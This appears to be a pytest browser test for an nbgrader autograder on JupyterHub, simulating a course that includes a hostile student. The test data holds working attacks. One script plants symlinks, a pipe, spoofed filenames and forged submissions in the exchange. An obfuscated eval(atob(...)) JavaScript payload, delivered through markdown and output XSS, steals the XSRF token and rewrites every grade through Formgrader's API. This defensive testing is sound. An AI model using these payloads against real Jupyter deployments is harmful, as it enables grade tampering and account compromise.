"""The class on nbgrader's exchange, on a real JupyterHub, driven by headless Chromium.

`autograder hub` serves a tiny course (tests/tiny_course.py) as root with
JupyterHub's dummy authenticator, to real Unix users made by
scripts/hub-setup.sh: the instructor, and the students ada and ben, each in a
browser session of their own, and cy, who attacks the exchange from a
shell. The tests run in their written order, one step of the course each:

1. the instructor generates and releases the worksheet in Formgrader;
2. ada and ben fetch it from the Assignment List, fill it in, Validate and
   submit; the due date passes between the two;
3. cy leaves hostile folders in the exchange: links, a pipe, odd names, a
   huge file, a forged early timestamp, a submission in ada's name; cy's
   notebook carries markdown and outputs that would run script as whoever
   views them;
4. the students cannot read each other's work, the course or the grader's;
5. the instructor collects in Formgrader, grades with `grade-all` in a
   terminal of their own JupyterLab, generates and releases feedback, then
   opens cy's submission in Formgrader's manual grading view and cy's
   feedback page: nothing of cy's runs;
6. ada and ben fetch their feedback and read their scores and messages.

Screenshots go to docs/ (for the README) and test-artifacts/hub/. It needs
root (to make users and start their servers), Playwright with Debian's
chromium, and configurable-http-proxy; without them it skips, unless
AUTOGRADER_REQUIRE_BROWSER=1 (as in CI) makes that a failure. The students'
environment is built once in $AUTOGRADER_HUB_TEST_DIR (default
/var/tmp/autograder-hub-test) and reused while the kit is unchanged.
"""

import base64
import csv
import datetime
import json
import os
import re
import shutil
import signal
import subprocess
import sys
import time
import urllib.request
from pathlib import Path

import nbformat
import pytest
from lab_server import free_port
from nbformat.v4 import new_markdown_cell
from tiny_course import MARKER, make_course, student_version, tiny_solution

PROJECT = Path(__file__).resolve().parents[1]
BASE = Path(os.environ.get("AUTOGRADER_HUB_TEST_DIR", "/var/tmp/autograder-hub-test"))
DOCS = PROJECT / "docs"
ARTIFACTS = Path(os.environ.get("AUTOGRADER_TEST_ARTIFACTS", PROJECT / "test-artifacts")) / "hub"
CHROMIUM = next(filter(None, map(shutil.which, ("chromium", "chromium-browser", "google-chrome"))), None)
CHROMIUM_FLAGS = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
                  "--disable-background-networking", "--disable-component-update", "--disable-sync"]
INSTRUCTOR, STUDENTS, ATTACKER = "instructor", ("ada", "ben"), "cy"
ASSIGNMENT = "tiny"
# The course's rules: nbgrader's late penalty (a late submission scores zero), files up to 1 MB.
COURSE_CONFIG = 'c.LateSubmissionPlugin.penalty_method = "zero"\nc.CourseDirectory.max_file_size = 1000\n'
# What each student hands in: ada a mistake only the hidden test sees, on time; ben the solution, late.
WORK = {"ada": {"answer": "7", "double": "2 * x"}, "ben": {"answer": "42", "double": "x + x"}}
EXPECTED = {"ada": (2.0, 0.0), "ben": (3.0, 3.0), "cy": (3.0, 3.0)}  # (score before the penalty, penalty)

try:
    from playwright.sync_api import expect, sync_playwright
except ImportError:
    sync_playwright = None

_missing = ("playwright (pip install -e '.[test]')" if sync_playwright is None else
            "chromium (apt-get install chromium)" if CHROMIUM is None else
            "configurable-http-proxy (npm install -g configurable-http-proxy)"
            if not shutil.which("configurable-http-proxy") else
            "root, to create the course's Unix users and start their servers" if os.geteuid() != 0 else None)
if _missing:
    if os.environ.get("AUTOGRADER_REQUIRE_BROWSER") == "1":
        raise RuntimeError(f"the hub's browser test needs {_missing}")
    pytest.skip(f"the hub's browser test needs {_missing}", allow_module_level=True)

expect.set_options(timeout=60_000)
TIMINGS = {}


def step_time(name, started):
    TIMINGS[name] = round(time.monotonic() - started, 1)


# --- the course, its users and the hub -----------------------------------------------------------

class HubProcess:
    def __init__(self, course, hub_dir):
        self.course, self.hub_dir = course, hub_dir
        self.port, self.hub_port, self.proxy_port = free_port(), free_port(), free_port()
        self.base = f"http://127.0.0.1:{self.port}"
        self.log_path = BASE / "jupyterhub.log"
        self.extra_config = BASE / "test_jupyterhub_config.py"
        self.process = None

    def start(self, timeout=120):
        # JupyterLab exposes itself to the test's scripts, and asks the internet nothing.
        self.extra_config.write_text(
            "c = get_config()  # noqa: F821\n"
            'c.Spawner.args = ["--LabApp.expose_app_in_browser=True", "--LabApp.news_url=None",\n'
            '                  "--LabApp.check_for_updates_class=jupyterlab.NeverCheckForUpdate"]\n')
        command = [sys.executable, "-m", "autograder", "hub", "--root", self.course, "--hub-dir", self.hub_dir,
                   "--port", str(self.port), "--authenticator", "dummy", "--config", self.extra_config, "--",
                   f"--JupyterHub.hub_port={self.hub_port}",
                   f"--ConfigurableHTTPProxy.api_url=http://127.0.0.1:{self.proxy_port}"]
        env = {k: v for k, v in os.environ.items() if not k.startswith(("PYTEST", "JUPYTER"))}
        with open(self.log_path, "w") as log:
            self.process = subprocess.Popen(list(map(str, command)), env=env, stdout=log, stderr=subprocess.STDOUT,
                                            start_new_session=True)
        deadline = time.monotonic() + timeout
        while True:
            if self.process.poll() is not None:
                raise RuntimeError(f"`autograder hub` exited with {self.process.returncode}:\n{self.log()}")
            try:
                with urllib.request.urlopen(self.base + "/hub/api", timeout=5) as response:
                    if response.status == 200:
                        return self
            except OSError:
                pass
            if time.monotonic() > deadline:
                self.stop()
                raise TimeoutError(f"JupyterHub did not answer within {timeout} s:\n{self.log()}")
            time.sleep(0.5)

    def stop(self):
        if self.process is None or self.process.poll() is not None:
            return
        os.killpg(self.process.pid, signal.SIGTERM)  # the hub stops the users' servers as it exits
        try:
            self.process.wait(30)
        except subprocess.TimeoutExpired:
            os.killpg(self.process.pid, signal.SIGKILL)
            self.process.wait(5)

    def log(self):
        return self.log_path.read_text()[-4000:] if self.log_path.is_file() else ""


@pytest.fixture(scope="module")
def hub():
    from autograder.grader.hub.course_hub import Hub

    started = time.monotonic()
    course, hub_dir = BASE / "course", BASE / "hub"
    shutil.rmtree(course, ignore_errors=True)
    for leftover in ("state", "exchange", "student", "instructor"):
        shutil.rmtree(hub_dir / leftover, ignore_errors=True)
    BASE.mkdir(parents=True, exist_ok=True)
    os.chmod(BASE, 0o755)
    # The course's worksheets: the tiny one, kept where only root reads it, as the kit's solutions/ are kept.
    kit = BASE / "kit"
    shutil.rmtree(kit, ignore_errors=True)
    make_course(kit)
    os.chmod(kit, 0o700)
    setup = subprocess.run(["bash", PROJECT / "scripts" / "hub-setup.sh", "--course", course, "--hub-dir", hub_dir,
                            "--worksheets", kit / "solutions", "--instructor", INSTRUCTOR,
                            *[a for s in (*STUDENTS, ATTACKER) for a in ("--student", s)]],
                           capture_output=True, text=True)
    assert setup.returncode == 0, setup.stdout + setup.stderr
    step_time("hub-setup.sh", started)
    # The instructor sets the course's rules in the one file hub-setup.sh wrote for them (issue 22: the README's
    # way to set a late penalty stopped grade-all, or was silently ignored).
    config = course / "nbgrader_config.py"
    assert "# c.LateSubmissionPlugin.penalty_method" in config.read_text()
    with open(config, "a") as f:
        f.write(COURSE_CONFIG)
    for user in (INSTRUCTOR, *STUDENTS):
        fresh_home(user)
    started = time.monotonic()
    process = HubProcess(course, hub_dir).start()
    step_time("hub start", started)
    process.layout = Hub(course, hub_dir)
    import_roster(process.layout)
    yield process
    process.stop()
    ARTIFACTS.mkdir(parents=True, exist_ok=True)
    shutil.copy(process.log_path, ARTIFACTS / "jupyterhub.log")
    (ARTIFACTS / "timings.json").write_text(json.dumps(TIMINGS, indent=1))


def import_roster(layout):
    """The class list, as the instructor imports it (Formgrader shows names)."""
    from autograder.grader.hub.course_hub import as_user, instructor_environment

    roster = BASE / "roster.csv"
    roster.write_text("id,first_name,last_name\n" + "".join(f"{s},{s.capitalize()},{last}\n" for s, last in
                                                            (("ada", "Able"), ("ben", "Baker"), ("cy", "Carter"))))
    os.chmod(roster, 0o644)
    result = as_user(INSTRUCTOR, ["nbgrader", "db", "student", "import", roster], env=instructor_environment(layout),
                     cwd=layout.course, capture_output=True, text=True)
    assert result.returncode == 0, result.stdout + result.stderr


def fresh_home(user):
    """The user's home as on the first day: no worksheet, no nbgrader cache, no JupyterLab workspace or
    settings (the news toast that would cover the buttons is off for everyone: issue 22)."""
    home = Path(f"~{user}").expanduser()
    for leftover in (ASSIGNMENT, ".local/share/jupyter/nbgrader_cache", ".jupyter/lab/workspaces",
                     ".jupyter/lab/user-settings"):
        shutil.rmtree(home / leftover, ignore_errors=True)


@pytest.fixture(scope="module")
def browser():
    ARTIFACTS.mkdir(parents=True, exist_ok=True)
    with sync_playwright() as playwright:
        chromium = playwright.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_FLAGS)
        yield chromium
        chromium.close()


@pytest.fixture(scope="module")
def sessions(browser, hub):
    """One browser session per user, logged in on first use."""
    pages = {}

    def session(user):
        if user not in pages:
            pages[user] = login(browser, hub, user)
        return pages[user]

    yield session
    for name, page in pages.items():
        page.screenshot(path=ARTIFACTS / f"last-{name}.png")
        page.context.close()


def login(browser, hub, user):
    started = time.monotonic()
    context = browser.new_context(viewport={"width": 1400, "height": 900})
    context.set_default_timeout(90_000)
    context.route(re.compile(r"^https?://(?!127\.0\.0\.1[:/])"), lambda route: route.abort())
    page = context.new_page()
    visited = []
    page.on("framenavigated", lambda frame: visited.append(frame.url) if frame == page.main_frame else None)
    page.goto(hub.base + "/hub/login")
    page.fill("#username_input", user)
    page.fill("#password_input", "any password: the dummy authenticator")
    page.click("#login_submit")
    page.wait_for_url(re.compile(rf"/user/{user}/lab"), timeout=150_000)
    page.wait_for_selector("#jupyterlab-splash", state="detached")
    page.wait_for_function("window.jupyterapp !== undefined")
    page.evaluate("async () => { await window.jupyterapp.restored; }")
    # The log-in said at once that the server was starting (issue 22: 10 s of silence first).
    assert any("/hub/spawn-pending/" in url for url in visited), visited
    page.wait_for_timeout(1500)
    expect(page.locator(".Toastify__toast")).to_have_count(0)  # no news toast over the buttons
    step_time(f"log-in {user}", started)
    return page


def command(page, name, args=None):
    # the command's result (a widget, say) stays in the page: it cannot be serialized
    page.evaluate("async ([name, args]) => { await window.jupyterapp.commands.execute(name, args); }", [name, args or {}])


def has_commands(page, names):
    return page.evaluate("(names) => names.map(n => window.jupyterapp.commands.hasCommand(n))", names)


NBGRADER_TOOLS = ["nbgrader:open-formgrader", "nbgrader:open-create-assignment", "nbgrader:open-course-list",
                  "nbgrader:open-assignment-list"]


# --- Formgrader ----------------------------------------------------------------------------------------

def formgrader(page, hub, path=None):
    command(page, "nbgrader:open-formgrader")
    frame = page.frame_locator("#formgrader-iframe iframe")
    if path:
        page.locator("#formgrader-iframe iframe").element_handle().content_frame().goto(
            f"{hub.base}/user/{INSTRUCTOR}/formgrader/{path}")
    return frame


def assignment_row(frame):
    return frame.locator("#main-table tr", has=frame.locator("td.name", has_text=ASSIGNMENT))


def press(frame, row, column):
    """Click a Formgrader action of the assignment's row; return the text of the dialog that answers, closed."""
    row.locator(f"td.{column} a").click()
    dialog = frame.locator(".modal.in .modal-content")
    expect(dialog).to_be_visible(timeout=180_000)
    text = dialog.inner_text()
    dialog.locator(".modal-footer button").click()
    expect(frame.locator(".modal.in")).to_have_count(0)
    return text


# --- the Assignment List ---------------------------------------------------------------------------------

def assignment_list(page):
    command(page, "nbgrader:open-assignment-list")
    panel = page.locator(".jp-MainAreaWidget:not(.lm-mod-hidden)", has=page.locator("#released_assignments_list"))
    expect(panel).to_be_visible()
    page.locator("#refresh_assignments_list").click()
    return panel


def list_rows(page, which):
    return page.locator(f"#{which}_assignments_list > .list_item")


def open_notebook(page, path):
    command(page, "docmanager:open", {"path": path})
    panel = page.locator(".jp-NotebookPanel:not(.lm-mod-hidden)")
    expect(panel.locator(".jp-Notebook .jp-Cell").first).to_be_visible()
    page.wait_for_function("() => { const w = window.jupyterapp.shell.currentWidget;"
                           " const k = w && w.sessionContext && w.sessionContext.session"
                           " && w.sessionContext.session.kernel; return k && k.status === 'idle'; }")
    return panel


def fill_cell(page, panel, index, text):
    """Replace the text of the ``index``-th code cell, as a student pasting an answer."""
    editor = panel.locator(".jp-CodeCell .cm-content").nth(index)
    editor.click()
    page.keyboard.press("Control+a")
    page.keyboard.insert_text(text)


# --- as the Unix users, from a shell --------------------------------------------------------------------

def can_read(user, path):
    """Whether ``user`` can list or read ``path`` (``cat``/``ls`` as that user)."""
    from autograder.grader.hub.course_hub import as_user

    tool = "ls" if Path(path).is_dir() else "cat"
    return as_user(user, [tool, path], cwd="/", capture_output=True).returncode == 0


def grading(user):
    """Whether ``user`` runs `autograder grade-all` now."""
    return subprocess.run(["pgrep", "-u", user, "-f", "autograder grade-all"], capture_output=True).returncode == 0


def inbound(hub):
    return hub.layout.course_exchange / "inbound"


def submissions_in_exchange(hub, student):
    return sorted(p for p in inbound(hub).iterdir() if p.name.startswith(f"{student}+"))


def due_date_now():
    """A due date between the first submission and the next: now, to the second, in UTC."""
    time.sleep(1.5)
    now = datetime.datetime.now(datetime.timezone.utc).replace(microsecond=0)
    time.sleep(1.5)
    return now


# === 1. the instructor releases ========================================================================

def test_instructor_releases_the_worksheet_from_formgrader(sessions, hub):
    started = time.monotonic()
    page = sessions(INSTRUCTOR)
    assert has_commands(page, NBGRADER_TOOLS) == [True] * 4  # Formgrader, Create Assignment, Course List, Assignment List
    frame = formgrader(page, hub)
    row = assignment_row(frame)
    expect(row.locator("td.status")).to_have_text("draft")
    generated = press(frame, row, "assign")
    assert "Successfully created the student version of 'tiny'" in generated
    assert "[DEBUG]" not in generated, generated  # issue 22: the language servers' probes filled the dialog
    expect(row.locator("td.release a")).to_be_visible()
    log = press(frame, row, "release")
    assert "Successfully released 'tiny'" in log, log
    expect(row.locator("td.status")).to_have_text("released")
    page.screenshot(path=DOCS / "hub-formgrader.png")
    # The assignment's name opens its sources in the file browser: the course's own source/ (issue 22: the
    # link did nothing, and the instructor's JupyterLab showed the course without its worksheets).
    row.locator("td.name a").click()
    expect(page.locator(".jp-FileBrowser-crumbs")).to_contain_text("source")
    expect(page.locator(".jp-DirListing-itemText", has_text=f"{ASSIGNMENT}.ipynb")).to_be_visible()
    released = hub.layout.course_exchange / "outbound" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"
    assert released.is_file() and MARKER not in released.read_text()
    step_time("release", started)


# === 2. two students fetch, fill in, validate and submit ===============================================

def fetch_fill_validate(page, student):
    assert has_commands(page, NBGRADER_TOOLS) == [False, False, False, True]  # only the Assignment List
    panel = assignment_list(page)
    released = list_rows(page, "released")
    expect(released).to_have_count(1)
    expect(released.first).to_contain_text(ASSIGNMENT)
    expect(released.first.locator(".item_course")).to_have_text("deep-learning-worksheets")
    if student == "ada":
        page.screenshot(path=DOCS / "hub-assignment-list.png")
    released.first.get_by_role("button", name="Fetch").click()
    fetched = list_rows(page, "fetched")
    expect(fetched.filter(has_text=ASSIGNMENT)).to_have_count(1)
    expect(list_rows(page, "released")).to_have_count(0)
    assert panel.is_visible()

    notebook = open_notebook(page, f"{ASSIGNMENT}/{ASSIGNMENT}.ipynb")
    fill_cell(page, notebook, 0, f"answer = {WORK[student]['answer']}")
    fill_cell(page, notebook, 2, f"def double(x):\n    return {WORK[student]['double']}")
    command(page, "docmanager:save")
    notebook.locator("jp-button.validate-button").click()
    message = page.locator(".jp-Dialog #validation-message")
    expect(message).to_be_visible(timeout=120_000)
    text = message.inner_text().strip()
    if student == "ada":
        page.screenshot(path=DOCS / "hub-validate.png")
    page.locator(".jp-Dialog .jp-Dialog-button").last.click()
    return text


def submit(page):
    assignment_list(page)
    row = list_rows(page, "fetched").filter(has_text=ASSIGNMENT)
    row.get_by_role("button", name="Submit").click()
    submitted = list_rows(page, "submitted").filter(has_text=ASSIGNMENT)
    expect(submitted).to_have_count(1)
    return submitted.inner_text()


def test_ada_fetches_validates_and_submits_on_time(sessions, hub):
    started = time.monotonic()
    page = sessions("ada")
    # Her mistake passes the visible test: Validate says success; only the hidden test will see it.
    assert fetch_fill_validate(page, "ada") == "Success! Your notebook passes all the tests."
    shown = submit(page)
    [submission] = submissions_in_exchange(hub, "ada")
    assert submission.name.split("+")[2].split(" ")[0] in shown  # the timestamp she sees is the exchange's
    page.screenshot(path=ARTIFACTS / "ada-submitted.png")
    step_time("ada: fetch, fill in, validate, submit", started)


def test_the_due_date_passes(sessions, hub):
    """The instructor sets the due date to now in Formgrader's Edit dialog: ada was on time, the rest is late."""
    page = sessions(INSTRUCTOR)
    due = due_date_now()
    frame = formgrader(page, hub, "manage_assignments")
    row = assignment_row(frame)
    row.locator("td.edit a").click()
    frame.locator(".modal.in input.modal-duedate").fill(due.strftime("%Y-%m-%dT%H:%M:%S"))
    frame.locator(".modal.in input.modal-timezone").fill("+0000")
    frame.locator(".modal.in button.save").click()
    expect(row.locator("td.duedate")).to_contain_text(due.strftime("%Y-%m-%d %H:%M:%S"))
    hub.due = due


def test_ben_submits_after_the_due_date(sessions, hub):
    started = time.monotonic()
    page = sessions("ben")
    assert fetch_fill_validate(page, "ben") == "Success! Your notebook passes all the tests."
    submit(page)
    # He sees that he was late, and what it costs (issue 22: nothing said so, before or after the due date).
    row = list_rows(page, "submitted").filter(has_text=ASSIGNMENT)
    expect(row).to_contain_text(f"LATE: after the due date, {hub.due.strftime('%Y-%m-%d %H:%M:%S')} UTC; the "
                                "course's late penalty applies (zero)", timeout=30_000)
    page.screenshot(path=DOCS / "hub-late-submission.png")
    step_time("ben: fetch, fill in, validate, submit", started)


# === 3. a hostile student =================================================================================

HOSTILE = r'''
import json, os, secrets, sys
inbound, course, notebook = sys.argv[1:4]
forged = "2000-01-01 00:00:00.000000 UTC"  # long before the due date
folder = os.path.join(inbound, f"cy+tiny+{forged}+{secrets.token_urlsafe(6)}")
os.mkdir(folder)
open(os.path.join(folder, "tiny.ipynb"), "w").write(notebook)
open(os.path.join(folder, "timestamp.txt"), "w").write(forged)
os.symlink(os.path.join(course, "gradebook.db"), os.path.join(folder, "gradebook.db"))
os.symlink(os.path.join(course, "source"), os.path.join(folder, "solutions"))
os.mkfifo(os.path.join(folder, "pipe"))
open(os.path.join(folder, "new\nline.txt"), "w").write("x")
open(os.path.join(folder, "\u202egnp.py"), "w").write("x")
with open(os.path.join(folder, "huge.bin"), "wb") as f:
    f.truncate(50_000_000)  # over the course's 1 MB, sparse
os.makedirs(os.path.join(folder, "data"))
open(os.path.join(folder, "data", "notes.txt"), "w").write("kept")
os.symlink("/", os.path.join(folder, "data", "root"))
# In ada's name, dated in the future so that nbgrader's collect would take it as her latest.
impostor = os.path.join(inbound, f"ada+tiny+2099-01-01 00:00:00.000000 UTC+{secrets.token_urlsafe(6)}")
os.mkdir(impostor)
open(os.path.join(impostor, "tiny.ipynb"), "w").write(notebook)
os.mkdir(os.path.join(inbound, "cy+tiny+not a time+x"))  # nbgrader's collect stops on this name
print(folder)
'''
# What cy's work does when someone views it, as the red team's did ("Class trust", item 1): write a file into
# the viewer's server with the _xsrf cookie, and give every submission 36 points and 6 of extra credit through
# Formgrader's API. Each vector carries its own tag; grading produces the outputs (in the jail, as any cell's).
PAYLOAD = """(async () => {
  const base = location.pathname.split(/[/](?:formgrader|files|lab)[/]/)[0];
  let xsrf = "";
  try { xsrf = decodeURIComponent((document.cookie.match(/(?:^|; )_xsrf=([^;]*)/) || [])[1] || ""); } catch (e) {}
  const headers = {"X-XSRFToken": xsrf, "Content-Type": "application/json"};
  const get = async (url) => (await fetch(base + url, {headers})).json();
  const put = (url, body) => fetch(base + url, {method: "PUT", headers, body: JSON.stringify(body)});
  await put("/api/contents/pwned-TAG.txt", {type: "file", format: "text", content: "TAG"});
  for (const nb of await get("/formgrader/api/submitted_notebooks/tiny/tiny")) {
    for (const grade of await get("/formgrader/api/grades?submission_id=" + nb.id)) {
      await put("/formgrader/api/grade/" + grade.id, {manual_score: 36, extra_credit: 6});
    }
  }
})()"""


def payload(tag):
    return f"eval(atob('{base64.b64encode(PAYLOAD.replace('TAG', tag).encode()).decode()}'))"


HOSTILE_MARKDOWN = (f'## My notes\n\nA **readable** note.<img src=x onerror="{payload("md-img")}">\n\n'
                    f'[click me](javascript:{payload("md-link")})\n')
HOSTILE_HTML = (f"<b>bold output</b><script>{payload('html-script')}</script>",
                f'<img src=x onerror="{payload("html-img")}">')
HOSTILE_OUTPUTS = ("\nfrom IPython.display import HTML, Javascript, display\n"
                   + "".join(f"display(HTML({html!r}))\n" for html in HOSTILE_HTML)
                   + f"display(Javascript({payload('javascript')!r}))")


def hostile_work():
    """cy's notebook: the solution, with a markdown cell and an answer cell that displays HTML and Javascript."""
    nb = student_version(tiny_solution(), extra=HOSTILE_OUTPUTS)
    nb.cells.insert(3, new_markdown_cell(HOSTILE_MARKDOWN))
    return nb


HOSTILE_REFUSALS = {  # path in cy's folder -> words of the reason collect.log gives
    "gradebook.db": "a link to", "solutions": "a link to", "pipe": "a named pipe", "new\\nline.txt": "control",
    "\\u202egnp.py": "control or invisible", "huge.bin": "over the course's limit", "data/root": "a link to '/'",
}


def test_a_hostile_student_leaves_links_pipes_odd_names_and_a_huge_file(hub):
    from autograder.grader.hub.course_hub import as_user

    notebook = nbformat.writes(hostile_work())
    result = as_user(ATTACKER, [hub.layout.student_env / "bin" / "python", "-c", HOSTILE, inbound(hub),
                                hub.course, notebook], capture_output=True, text=True)
    assert result.returncode == 0, result.stderr
    hub.hostile = Path(result.stdout.strip())


# === 4. students apart ===================================================================================

def test_students_cannot_read_each_others_work_or_the_course(hub):
    course = hub.course
    [ada_submission] = [p for p in submissions_in_exchange(hub, "ada") if "2099" not in p.name]
    private = {
        "the exchange's inbound folder": inbound(hub),
        "ada's submission": ada_submission / f"{ASSIGNMENT}.ipynb",
        "ada's home": Path("~ada").expanduser(),
        "ada's fetched worksheet": Path("~ada").expanduser() / ASSIGNMENT / f"{ASSIGNMENT}.ipynb",
        "the released feedback folder": hub.layout.course_exchange / "feedback",
        "the course folder": course,
        "the course's sources": course / "source" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb",
        "the worksheets the course was made from": BASE / "kit" / "solutions",
        "the gradebook": course / "gradebook.db",
        "the course secret": course / ".autograder-secret",
        "the grader's package": PROJECT / "autograder" / "grader" / "hidden.py",
        "the hidden hand-drawn digits": next((PROJECT / "autograder" / "grader" / "data").rglob("*.png")),
        "the project's solutions": PROJECT / "solutions",
    }
    readable = [what for what, path in private.items() if can_read("ben", path)]
    assert readable == [], f"ben can read {readable}"
    # What a student may read: the released worksheet, their own work, the kit and the data.
    public = [hub.layout.course_exchange / "outbound" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb",
              Path("~ben").expanduser() / ASSIGNMENT / f"{ASSIGNMENT}.ipynb",
              hub.layout.datasets / "mnist"]
    assert [p for p in public if not can_read("ben", p)] == []
    # The instructor reads every submission in the exchange, through the course's group.
    assert can_read(INSTRUCTOR, ada_submission / f"{ASSIGNMENT}.ipynb")
    assert can_read(INSTRUCTOR, ada_submission / "submission_secret.txt")
    assert (ada_submission.stat().st_mode & 0o777, ada_submission.group()) == (0o770, "instructors")


# === 5. the instructor collects, grades and releases feedback ===========================================

def test_instructor_collects_in_formgrader(sessions, hub):
    started = time.monotonic()
    page = sessions(INSTRUCTOR)
    frame = formgrader(page, hub, "manage_assignments")
    row = assignment_row(frame)
    log = press(frame, row, "collect")
    (ARTIFACTS / "collect-dialog.txt").write_text(log)
    assert "Successfully collected" in log, log
    # cy's refusals, one line each under cy's name; no traceback, no debugging lines (issue 22)
    assert re.search(r"cy \(tiny\): \d+ things to know; each is also in .*collect\.log", log), log
    assert "'pipe' refused: it is a named pipe" in log
    assert "Traceback" not in log and "[DEBUG]" not in log
    expect(row.locator("td.num-submissions")).to_have_text("3")
    submitted = hub.course / "submitted"
    assert sorted(p.name for p in submitted.iterdir()) == ["ada", "ben", "cy"]
    step_time("collect", started)


def test_the_hostile_submission_was_collected_safely(hub):
    submitted = hub.course / "submitted"
    cy = submitted / "cy" / ASSIGNMENT
    kept = sorted(str(p.relative_to(cy)) for p in cy.rglob("*"))
    assert kept == ["data", "data/notes.txt", "submission_secret.txt", "timestamp.txt", f"{ASSIGNMENT}.ipynb"]
    assert not any(p.is_symlink() for p in submitted.rglob("*"))
    report = (hub.course / "collect.log").read_text()
    for path, reason in HOSTILE_REFUSALS.items():
        lines = [line for line in report.splitlines() if f"/{path}'" in line]
        assert lines and reason in lines[0], (path, report)
    assert "belongs to 'cy'" in report and "the whole submission was refused" in report
    honest = [p.name for s in STUDENTS for p in submissions_in_exchange(hub, s) if "2099" not in p.name]
    assert [line for line in report.splitlines() if any(name in line for name in honest)] == []  # whole
    assert "not nbgrader's" in report  # the unparsable name, refused alone
    # ada's own submission, not cy's in her name, and the exchange's time, not cy's forged one.
    assert "answer = 7" in (submitted / "ada" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb").read_text()
    forged = (hub.hostile / "timestamp.txt").read_text()
    stamp = (cy / "timestamp.txt").read_text()
    assert forged.startswith("2000") and stamp > hub.due.strftime("%Y-%m-%d %H:%M:%S")
    assert "its own timestamp says 2000-01-01" in report


def test_instructor_autogrades_a_submission_from_formgrader(sessions, hub):
    """Issue 22: grading from Formgrader, with nbgrader's own Autograde button: the kit's pipeline, jail and
    limits, the row saying "Please wait..." meanwhile, then the log in a dialog and the score in the table."""
    started = time.monotonic()
    page = sessions(INSTRUCTOR)
    frame = formgrader(page, hub, f"manage_submissions/{ASSIGNMENT}")
    row = frame.locator("#main-table tr", has=frame.locator("td.student-id", has_text="ada"))
    name = row.locator("td.student-name").element_handle()  # the row's cells empty while it grades
    row.locator("td.autograde a").click()
    assert name.inner_text() == "Please wait..."
    dialog = frame.locator(".modal.in .modal-content")
    expect(dialog).to_be_visible(timeout=300_000)
    text = dialog.inner_text()
    (ARTIFACTS / "autograde-dialog.txt").write_text(text)
    dialog.locator(".modal-footer button").click()
    assert f"Successfully autograded '{ASSIGNMENT}' for student 'ada'" in text, text
    assert "[DEBUG]" not in text and "Traceback" not in text
    expect(row.locator("td.score")).to_have_text("2 / 3")
    [(score,)] = gradebook(hub, "SELECT g.auto_score FROM grade g JOIN base_cell c ON g.cell_id = c.id "
                                "JOIN submitted_notebook sn ON g.notebook_id = sn.id JOIN submitted_assignment sa "
                                "ON sn.assignment_id = sa.id WHERE sa.student_id = 'ada' AND c.name = 'test_answer'")
    assert score == 0.0  # the hidden test ran: her 7 is not 42
    step_time("autograde ada from Formgrader", started)


def test_instructor_grades_the_class_from_formgrader(sessions, hub):
    """Issue 22: the whole class graded from Formgrader, nothing typed in a terminal: the kit's button runs
    `autograder grade-all` on the instructor's server, its progress in the page."""
    started = time.monotonic()
    page = sessions(INSTRUCTOR)
    frame = formgrader(page, hub, "manage_assignments")
    button = frame.locator("#autograder-grade-all button")
    status = frame.locator("#autograder-grade-all-status")
    button.click()
    seen, deadline = [], time.monotonic() + 420
    while time.monotonic() < deadline:
        text = status.inner_text() if status.count() else ""
        if text and (not seen or seen[-1] != text):
            seen.append(text)
        if text.startswith("grade-all finished"):
            break
        time.sleep(0.5)
    (ARTIFACTS / "formgrader-grading.txt").write_text("\n----\n".join(seen))
    assert seen and seen[-1].startswith("grade-all finished"), seen
    # while it ran, the page said what it was doing: the reference run before the class, then the count
    assert any("grading the reference solution of tiny" in text or "Grading: " in text for text in seen), seen
    page.screenshot(path=DOCS / "hub-formgrader-grading.png")
    results = json.loads((hub.course / "grade-all.json").read_text())
    scores = {key.split("/")[0]: (o["score"], o["late_penalty"]) for key, o in results.items()}
    assert scores == EXPECTED, (scores, seen[-1])
    # nbgrader's own table shows the graded submissions once the run ends (the page reloads itself)
    expect(assignment_row(frame).locator("td.num-submissions")).to_have_text("3")
    step_time("grade-all from Formgrader", started)


def test_instructor_grades_with_grade_all_in_a_terminal(sessions, hub):
    started = time.monotonic()
    page = sessions(INSTRUCTOR)
    command(page, "terminal:create-new")
    terminal = page.locator(".jp-Terminal:not(.lm-mod-hidden) .xterm-screen")
    expect(terminal).to_be_visible()
    terminal.click()
    page.keyboard.type("autograder grade-all --workers 1\n")
    outcomes = hub.course / "grade-all.json"
    time.sleep(3)
    deadline = time.monotonic() + 420
    while grading(INSTRUCTOR) and time.monotonic() < deadline:  # the terminal draws on a canvas: watch the process
        time.sleep(2)
    assert outcomes.is_file() and not grading(INSTRUCTOR), "grade-all did not finish"
    time.sleep(1)  # its last lines reach the terminal
    page.screenshot(path=DOCS / "hub-grade-all.png")
    results = json.loads(outcomes.read_text())
    scores = {key.split("/")[0]: (o["score"], o["late_penalty"]) for key, o in results.items()}
    assert scores == EXPECTED, scores
    assert all(o["sandbox"] == "bwrap" for o in results.values())  # graded in the jail
    # ... with the course's limits, though an ordinary user started it: the hub delegated control groups
    # (before: rlimits only, and a cell started 600 processes where the course says 512)
    assert all(o["limits"].startswith("control group") for o in results.values()), results
    rows = {r["student_id"]: r for r in csv.DictReader((hub.course / "grades.csv").open())}
    assert float(rows["ben"]["late_submission_penalty"]) == EXPECTED["ben"][1]
    assert float(rows["ada"]["late_submission_penalty"]) == 0
    hub.outcomes = results
    step_time("grade-all (1 worker, 3 submissions)", started)


def test_instructor_generates_and_releases_feedback(sessions, hub):
    started = time.monotonic()
    page = sessions(INSTRUCTOR)
    frame = formgrader(page, hub, "manage_assignments")
    row = assignment_row(frame)
    assert "Successfully generated feedback" in press(frame, row, "generate-feedback")
    log = press(frame, row, "release-feedback")
    assert "Successfully released feedback" in log, log
    released = list((hub.layout.course_exchange / "feedback").glob("*.html"))
    assert len(released) == 3
    frame = formgrader(page, hub, f"manage_submissions/{ASSIGNMENT}")
    expect(frame.locator("#main-table tr td.score").first).not_to_be_empty()
    page.screenshot(path=DOCS / "hub-formgrader-scores.png")
    step_time("feedback", started)


def gradebook(hub, query, *args):
    """Rows of the course's gradebook, read-only (the instructor's server has it open)."""
    import sqlite3

    with sqlite3.connect(f"file:{hub.course / 'gradebook.db'}?mode=ro", uri=True) as db:
        return db.execute(query, args).fetchall()


def test_nothing_cy_wrote_runs_in_the_instructors_browser(sessions, hub):
    """Red team, "Class trust" 1: cy's markdown and outputs would write a file into the instructor's server and
